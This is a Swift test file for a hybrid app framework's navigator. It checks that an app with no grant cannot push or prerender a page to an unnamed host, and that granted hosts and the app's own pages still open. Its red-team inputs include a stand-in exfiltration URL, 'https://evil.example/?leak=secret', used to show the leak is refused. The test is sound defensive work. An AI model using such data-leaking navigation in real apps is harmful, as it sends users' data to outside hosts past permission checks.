import Foundation
import Testing
@testable import HybridCore
import HybridTesting
import HybridVocabulary

/// Red team (issue 56, item 4): an app's walls refuse its page's own top-level loads of hosts its
/// grant does not name, but the navigator's doors did not ask them. App a, granted nothing, pushed
/// (or linked, as the navigator routes a person's click) `https://evil.example/?leak=…` into a page
/// of its own, or prerendered it with the person's cookies. A page the navigator opens for an app's
/// page is a top-level load of that app's: its walls hold.
@MainActor
struct NavigatorThroughTheWallsTests {
    typealias F = NavigatorDoorsFixture

    static func appA(_ grant: Set<String>) async throws -> (F, NavigatorEntry, [String]) {
        let f = try F(grants: ["a": grant], rules: "[]")
        try await f.navigator.route(F.url("/home"))
        try await f.commitTop()
        try await f.navigator.startApp("a")
        return (f, try await f.commitTop(), [])
    }

    @Test func aPushFromAnApp_toAHostItsGrantDoesNotName_isRefused_andTheAppHearsWhy() async throws {
        let (f, a, _) = try await Self.appA([])
        var heard: [String] = []
        try #require(a.container).bridge.onWallRefusal = { url, _ in heard.append(url.absoluteString) }
        let code = await F.refusal { try await f.navigator.pagePush("https://evil.example/?leak=secret", overrides: [:], passData: .null, from: a) }
        #expect(code == "navigator_url_refused")
        #expect(f.urls == ["https://m.example/home", "app://a/index.html"], "app a's push left its walls")
        #expect(heard == ["https://evil.example/?leak=secret"])
    }

    @Test func aPrefetchFromAnApp_ofAHostItsGrantDoesNotName_isRefused() async throws {
        let (f, a, _) = try await Self.appA([])
        let code = await F.refusal { try await f.navigator.pagePrefetch("https://evil.example/?leak=secret", from: a) }
        #expect(code == "navigator_url_refused")
        #expect(f.navigator.pool.prerenderedURLs.isEmpty, "app a's prerender left its walls")
    }

    @Test func aPushFromAnApp_toAHostItsGrantNames_orToItsOwnPages_opens() async throws {
        let (f, a, _) = try await Self.appA(["navigate:*.partner.example"])
        try await f.navigator.pagePush("https://shop.partner.example/", overrides: [:], passData: .null, from: a)
        #expect(f.urls.last == "https://shop.partner.example/")
        try await f.navigator.pop()
        try await f.navigator.pagePush("/next.html", overrides: [:], passData: .null, from: a)
        #expect(f.urls.last == "app://a/next.html")
    }

    @Test func theHostsOwnPage_pushesAnyWebPage() async throws {
        let f = try F(grants: ["a": []], rules: "[]")
        try await f.navigator.route(F.url("/home"))
        let host = try await f.commitTop()
        try await f.navigator.pagePush("https://elsewhere.example/", overrides: [:], passData: .null, from: host)
        #expect(f.urls.last == "https://elsewhere.example/")
    }
}
